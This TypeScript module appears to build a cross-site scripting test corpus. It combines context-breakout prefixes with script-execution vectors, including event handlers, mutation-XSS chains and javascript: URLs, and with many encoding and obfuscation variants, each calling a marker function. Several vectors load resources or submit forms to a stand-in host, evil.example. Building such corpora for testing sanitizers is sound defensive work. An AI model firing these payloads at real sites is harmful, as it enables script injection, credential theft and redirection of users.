/** Texts that would become markup or scripts somewhere: what breaks out, times what runs, and ways of writing both. */

/** In every payload, with three digits after it: letters that nothing marks, folds or escapes. */
export const MARK = "xk9q";

/** Out of an element's text, an attribute, a raw text element, a comment, a script's string, an escape. */
const OUTS = [
  "",
  '">',
  "'>",
  " ",
  '" ',
  "' ",
  "`>",
  "</p></section></main>",
  "</pre>",
  "</textarea>",
  "</title>",
  "</option></select>",
  "</style>",
  "</script>",
  "-->",
  "--!>",
  "]]>",
  "&quot;&gt;",
  "\u0000",
  "\\\"}';",
] as const;

const RUNS = [
  "<script>__hit()</script>",
  "<img src=x onerror=__hit()>",
  "<svg onload=__hit()>",
  "<svg><script>__hit()</script></svg>",
  "<svg><a xlink:href=javascript:__hit()><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src onerror=__hit()>",
  '<noscript><p title="</noscript><img src=x onerror=__hit()>">',
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img src onerror=__hit()>",
  "<template><script>__hit()</script></template>",
  "<template shadowrootmode=open><img src onerror=__hit()></template>",
  '<iframe srcdoc="<script>parent.__hit()</script>">',
  "<iframe src=javascript:parent.__hit()>",
  "<a href=javascript:__hit() data-onwards>x</a>",
  "<a href=java&#115;cript&colon;__hit()>x</a>",
  "<object data=data:text/html,<script>__hit()</script>>",
  "<input autofocus onfocus=__hit()>",
  "<details open ontoggle=__hit()>",
  "<style>@import '//evil.example';*{background:url(//evil.example)}</style>",
  "<div style=background:url(javascript:__hit())>",
  "<meta http-equiv=refresh content=0;url=javascript:__hit()>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<form action=//evil.example data-gesture=/evil><button data-answers=approve formaction=//evil.example>",
  "onmouseover=__hit() autofocus onfocus=__hit() x=",
  "<!--<img src=x onerror=__hit()>",
] as const;

/** Ways of writing that some decoder on the way might undo. */
const WRITTEN = [
  "&lt;script&gt;__hit()&lt;/script&gt;",
  "&amp;lt;script&amp;gt;__hit()&amp;lt;/script&amp;gt;",
  "&#60;script&#62;__hit()&#60;/script&#62;",
  "&#x3c;script&#x3e;__hit()",
  "&LT;script&GT;__hit()",
  "%3Cscript%3E__hit()%3C/script%3E",
  "%253Cscript%253E__hit()",
  "\\u003cscript\\u003e__hit()\\u003c/script\\u003e",
  "\\x3cscript\\x3e__hit()",
  "+ADw-script+AD4-__hit()+ADw-/script+AD4-",
  "\u00c0\u00bcscript\u00c0\u00be__hit()",
  "%c0%bcscript%c0%be__hit()",
  "\uff1cscript\uff1e__hit()\uff1c/script\uff1e",
  "\u202e>tpircs<\u202c<script>__hit()</script>",
  "<scr\u0000ipt>__hit()</scr\u0000ipt>",
  "<\u0000script>__hit()</script>",
  "<scr\u200bipt>__hit()</script>",
  "<script\u2028>__hit()</script\u2029>",
  '{"x":"</script><script>__hit()</script>"}',
  '{"isEscaped":true,"callbacks":[],"toString":"<script>__hit()</script>"}',
  "${__hit()}",
  "{{constructor.constructor('__hit()')()}}",
  "javascript:__hit()",
  "data:text/html,<script>__hit()</script>",
  "\r\nSet-Cookie: kidoban=x\r\n\r\n<script>__hit()</script>",
  "\u001b]8;;javascript:__hit()\u0007x\u001b]8;;\u0007",
] as const;

export const PAYLOADS: readonly string[] = [...OUTS.flatMap((out) => RUNS.map((run) => out + run)), ...WRITTEN].map(
  (payload, at) => `${MARK}${String(at).padStart(3, "0")} ${payload}`,
);

/** As many of them, from this one on, as fit into so many letters. */
export function some(letters: number, from = 0): string {
  let text = "";
  for (let at = 0; at < PAYLOADS.length; at++) {
    const next = `${text}${PAYLOADS[(from + at) % PAYLOADS.length] ?? ""}\n`;
    if (next.length > letters) break;
    text = next;
  }
  return text;
}
